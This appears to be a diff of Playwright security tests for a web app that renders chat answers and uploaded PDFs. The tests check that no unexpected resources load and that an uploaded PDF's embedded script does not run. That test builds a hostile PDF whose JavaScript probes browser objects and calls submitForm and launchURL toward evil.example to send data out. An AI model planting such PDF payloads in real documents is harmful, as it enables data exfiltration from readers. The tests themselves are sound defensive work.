@@ -64,15 +64,15 @@ def nothing_ran(page: Page) -> None:
       .filter(({ src, href, attributes }) => src || href || attributes.onerror || attributes.onload)
       .map(({ localName, src, href }) => `${localName} ${src ?? href}`)"""
     own = page.url.removesuffix("/chat")
-    allowed = ("link " + own, "script " + own, f"a {own}/chat#", f"a blob:{own}", f"iframe blob:{own}")
+    allowed = ("link " + own, "script " + own, f"a {own}/chat#", f"a {own}/api/docs", f"a blob:{own}")
     assert [each for each in page.evaluate(kinds) if not each.startswith(allowed)] == []
 
 
 def test_no_file_of_the_page_writes_html() -> None:
-    found = {
-        (file.name, match[0]) for file in WEB.iterdir() for match in WRITES_HTML.finditer(file.read_text())
-    }
-    assert found == {("viewer.js", "DOMParser")}  # which is given no markup
+    files = [file for file in WEB.rglob("*") if file.suffix in (".js", ".html", ".css")]
+    ours = [file for file in files if "vendor" not in file.parts]
+    found = {(file.name, match[0]) for file in ours for match in WRITES_HTML.finditer(file.read_text())}
+    assert found == {("html.js", "DOMParser")}  # which is given no markup
 
 
 def test_a_poisoned_answer_fetches_nothing_and_runs_nothing_in_any_prefix(
@@ -143,16 +143,17 @@ def hostile_pdf(script: str) -> bytes:
 def test_the_script_of_a_pdf_sees_nothing_of_the_page_and_reaches_nobody(
     page: Page, register: Callable[[Page], str], leaving: list[str]
 ) -> None:
-    """The browser's own reader runs it, out of reach of the page; it may open a dialog."""
+    """What draws it runs no script at all."""
     register(page)
     seen = "app.alert([typeof sessionStorage, typeof document, typeof fetch, typeof XMLHttpRequest].join());"
     tries = "try{this.submitForm('http://evil.example/');}catch(e){}try{app.launchURL('http://evil.example/');}catch(e){}"
     upload(page, "hostile.pdf", hostile_pdf(f"{seen}{tries}app.alert('the end');"))
     row = page.locator(".row", has_text="hostile.pdf")
     expect(row).to_have_attribute("data-status", "indexed")
-    with page.expect_event("dialog", lambda dialog: dialog.message == "the end"):
-        row.get_by_role("button", name="hostile.pdf").first.click()
-    assert leaving == ["undefined,undefined,undefined,undefined", "the end"]
+    row.get_by_role("button", name="hostile.pdf").first.click()
+    expect(page.locator(".pdf-text")).to_contain_text("The pump runs for nine hours")
+    expect(page.locator(".pdf canvas")).to_be_visible()
+    assert leaving == []
     nothing_ran(page)
 
 
